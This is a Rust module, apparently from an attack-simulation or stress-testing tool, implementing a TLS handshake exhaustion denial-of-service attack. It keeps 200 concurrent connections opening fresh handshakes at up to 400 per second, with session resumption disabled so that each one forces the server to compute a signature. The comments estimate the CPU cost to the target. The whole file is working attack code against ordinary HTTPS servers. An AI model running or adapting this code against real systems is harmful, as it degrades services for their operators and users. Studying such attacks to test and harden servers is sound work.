//! TLS handshakes without a request: each costs the server its signature, and the connection ends.
//!
//! Invariant: [`LINES`] handshakes are in progress at once, and at most [`HANDSHAKES_PER_SECOND`]
//! begin in a second. A handshake costs the server some 0.3 ms and the attacker twice that, so 400
//! a second take an eighth of a core from the server.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use futures_util::future::try_join_all;
use rustls::ClientConfig;
use rustls::client::Resumption;
use tokio::time::{MissedTickBehavior, interval};

use super::progress::{ATTACKER, AttackProgress};
use crate::https_connection::HttpsConnection;

/// Number of handshakes in progress at once.
const LINES: u32 = 200;

/// Maximum rate of all connections together.
const HANDSHAKES_PER_SECOND: u32 = 400;

pub(super) async fn run(
    target: SocketAddr,
    tls: Arc<ClientConfig>,
    progress: &AttackProgress,
) -> Result<()> {
    let mut tls = (*tls).clone();
    // A resumed session would cost the server no signature.
    tls.resumption = Resumption::disabled();
    let tls = Arc::new(tls);
    progress.established();
    try_join_all((0..LINES).map(|_| repeat(target, &tls, progress))).await?;
    Ok(())
}

async fn repeat(
    target: SocketAddr,
    tls: &Arc<ClientConfig>,
    progress: &AttackProgress,
) -> Result<()> {
    let mut ticks = interval(Duration::from_secs(1) * LINES / HANDSHAKES_PER_SECOND);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    loop {
        ticks.tick().await;
        progress.acted();
        // The server may drop the attacker's connections to defend itself.
        let _ = HttpsConnection::open(target, ATTACKER, Arc::clone(tls)).await;
    }
}
